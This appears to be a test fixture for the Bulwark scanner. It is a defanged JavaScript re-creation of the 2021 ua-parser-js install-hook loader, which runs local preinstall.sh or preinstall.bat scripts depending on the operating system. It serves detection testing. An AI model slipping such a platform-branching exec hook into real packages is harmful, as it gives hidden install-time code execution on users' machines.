// DEFANGED re-creation (ua-parser-js 0.7.29, 2021) for Bulwark's scanner tests. Never run.
const { exec } = require("child_process");
function terminalLinux() {
  exec("/bin/bash preinstall.sh", (error, stdout, stderr) => {
    if (error) { return; }
  });
}
var opsys = process.platform;
if (opsys == "darwin" || opsys == "linux") {
  terminalLinux();
} else if (opsys == "win32" || opsys == "win64") {
  exec("preinstall.bat", (error, stdout, stderr) => {});
}
